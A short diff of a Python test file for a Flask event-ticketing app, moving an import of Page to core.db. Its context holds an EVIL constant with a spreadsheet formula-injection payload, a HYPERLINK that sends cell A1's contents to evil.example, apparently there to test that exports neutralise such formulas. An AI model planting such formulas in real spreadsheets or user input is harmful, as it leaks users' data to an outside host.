@@ -10,13 +10,12 @@ from flask_babel import force_locale, gettext
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from core.db import utcnow
+from core.db import Page, utcnow
 from core.extensions import db
 from core.models import AuditLog
 from events import services
 from tests.factories import login, make_event, make_ticket_type, make_user, submit
 from tests.ticketing.booking_helpers import book, event_on_sale, outbox, person
-from ticketing.attendees.queries import Page
 from ticketing.booking import bookings as booking
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
